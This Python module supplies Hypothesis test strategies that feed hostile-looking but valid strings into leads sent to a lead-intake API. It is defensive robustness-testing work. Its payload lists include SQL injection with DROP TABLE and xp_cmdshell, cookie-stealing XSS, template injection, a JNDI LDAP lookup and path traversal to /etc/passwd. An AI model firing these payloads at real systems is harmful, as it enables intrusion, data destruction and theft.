"""Hostile strings: text an attacker, a broken form or a mangled encoding sends.

Two families, kept apart because the contract treats them differently:

- :data:`HOSTILE_VALID_TEXT` looks dangerous (SQL, script and template
  injection, path traversal, format strings, RTL scripts, emoji, homoglyphs,
  combining marks, JSON-ish words like ``null``) but breaks no rule in
  :mod:`leadharness.contract.rules`: a target must accept it and store it
  unchanged. :func:`hostile_valid_leads` puts it into otherwise valid leads.
- :data:`CONTROL_INSERTS` are characters the rules refuse in free text
  (control, format and private-use code points: NUL, newline, escape, the
  bidirectional overrides, zero-width joiners, the byte-order mark); the
  invalid strategies insert them and expect ``no_control_chars``.

No string here is a lone surrogate: JSON encoders (httpx's among them) cannot
send one, so it would test the client rather than the target.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from hypothesis import strategies as st

from leadharness.contract.rules import MAX_LENGTHS
from strategies import fields, synthetic
from strategies.leads import valid_leads
from strategies.payload import LeadPayload

__all__ = [
    "CONTROL_INSERTS",
    "HOSTILE_EMAIL_LOCALS",
    "HOSTILE_SITE_URLS",
    "HOSTILE_VALID_TEXT",
    "INJECTION_TEXT",
    "ODD_UNICODE_TEXT",
    "VALUE_WORDS",
    "hostile_text",
    "hostile_valid_leads",
    "hostile_values",
]

#: Injection-shaped text: SQL, script, template, LDAP, path and format strings.
INJECTION_TEXT: tuple[str, ...] = (
    "Robert'); DROP TABLE leads;--",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    '" OR ""="',
    "'; EXEC xp_cmdshell('dir');--",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%s%s%s%n",
    "{0}{1}",
    '{"$ne": null}',
    "*)(uid=*))(|(uid=*",
    "query { __schema { types { name } } }",
    "\\u0000 \\n \\\" \\'",
)

#: Text that is valid Unicode but trips normalisation, bidi or width handling.
ODD_UNICODE_TEXT: tuple[str, ...] = (
    "محمد عبد الله",
    "דוד כהן",
    "Smith محمد",
    "שרה Cohen-כהן",
    "Zoe\u0308",
    "Ｊｏｈｎ",
    "Јоhn",
    "😀",
    "👍🏽 Smith",
    "🇺🇸",
    "𝔍𝔬𝔥𝔫",
    "Z\u0334\u0321a\u0335l\u0338g\u0337o\u0336",
    "Ã©Ã¨ mojibake",
    "\u00a0John",
    "John\u3000Smith",
    "Ω≈ç√∫˜µ≤≥÷",
)

#: Words that parsers, ORMs and templates mistake for values.
VALUE_WORDS: tuple[str, ...] = (
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "[]",
)

HOSTILE_VALID_TEXT: tuple[str, ...] = INJECTION_TEXT + ODD_UNICODE_TEXT + VALUE_WORDS

#: Code points rules.py counts as control or format characters (Cc, Cf, Co).
CONTROL_INSERTS: tuple[str, ...] = (
    "\x00",
    "\n",
    "\r\n",
    "\t",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u200b",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\u00ad",
    "\ue000",
    "\U000f0000",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
)

#: Local parts the rules accept although many validators choke on them.
HOSTILE_EMAIL_LOCALS: tuple[str, ...] = (
    "o'brien",
    "a!#$%&'*+/=?^_`{|}~-",
    "first.last+tag",
    "x",
    "very.common",
    "1234567890",
    "__",
)

#: Site URLs the rules accept that carry injection-shaped paths or queries.
HOSTILE_SITE_URLS: tuple[str, ...] = (
    "https://example.com/?q=%27%20OR%201=1--",
    "example.com/<script>alert(1)</script>",
    "https://example.com/../../etc/passwd",
    "https://example.com/#{{7*7}}",
    "http://example.org/?redirect=https://example.net/",
    "https://example.com/"
    + "a" * (MAX_LENGTHS["siteURL"] - len("https://example.com/")),
)


def _fit(values: tuple[str, ...], limit: int) -> tuple[str, ...]:
    return tuple(v for v in (value[:limit] for value in values) if v.strip())


def hostile_values(field: str) -> tuple[str, ...]:
    """Every hostile-but-valid value for free-text ``field``, within its limit."""
    limit = MAX_LENGTHS[field]
    return _fit(HOSTILE_VALID_TEXT + _at_limit(limit), limit)


def _at_limit(limit: int) -> tuple[str, ...]:
    # Off-by-one length checks and byte-versus-character counting break here.
    return ("A" * limit, "😀" * limit, ("Ñ" + "a\u0308") * (limit // 3))


def hostile_text(field: str) -> st.SearchStrategy[str]:
    """Hostile-but-valid text for ``field``; each family is drawn equally often."""
    limit = MAX_LENGTHS[field]
    families = (INJECTION_TEXT, ODD_UNICODE_TEXT, VALUE_WORDS, _at_limit(limit))
    return st.one_of(*(st.sampled_from(_fit(family, limit)) for family in families))


def _hostile_email(local: str, domain: str) -> str:
    return synthetic.email_address(local, domain, synthetic.unique_tag())


def _hostile_lead_id(text: str) -> str:
    # The tag goes first so truncation to the limit cannot cut it off.
    return f"{synthetic.unique_tag()} {text}"[: MAX_LENGTHS["leadId"]]


def _merge(lead: LeadPayload, extra: Mapping[str, Any]) -> LeadPayload:
    return lead | {k: v for k, v in extra.items() if v is not None}


def hostile_valid_leads(
    *, email_domains: tuple[str, ...] | list[str] | None = None, **overrides: Any
) -> st.SearchStrategy[LeadPayload]:
    """Valid leads whose free text, email, lead id and site are hostile-looking.

    Each field is independently ordinary or hostile, ordinary first, so a
    failing example shrinks to the one hostile field that matters. Every lead
    still passes ``check_lead`` and the SDL: a target must accept it (no
    error, no 5xx) and echo the lead id unchanged. ``email_domains`` and
    ``overrides`` mean what they mean for :func:`strategies.leads.valid_leads`.
    """

    def either(ordinary: st.SearchStrategy[Any], field: str) -> st.SearchStrategy[Any]:
        return st.one_of(ordinary, hostile_text(field))

    texts = {
        "firstName": either(fields.first_names(), "firstName"),
        "lastName": either(fields.last_names(), "lastName"),
        "address1": either(fields.addresses(), "address1"),
        "city": either(fields.cities(), "city"),
        "siteURL": st.one_of(fields.site_urls(), st.sampled_from(HOSTILE_SITE_URLS)),
    }
    texts.update({k: v for k, v in overrides.items() if k in texts})
    domains = synthetic.email_domains(email_domains)
    base = valid_leads(email_domains=domains, **{**overrides, **texts})
    hostile_ids = {
        "email": st.builds(
            _hostile_email,
            st.sampled_from(HOSTILE_EMAIL_LOCALS),
            st.sampled_from(domains),
        ),
        "leadId": hostile_text("leadId").map(_hostile_lead_id),
    }
    # None keeps the ordinary stamped value; an override is never replaced.
    extra = st.fixed_dictionaries(
        {
            k: st.one_of(st.none(), v)
            for k, v in hostile_ids.items()
            if k not in overrides
        }
    )
    return st.builds(_merge, base, extra)
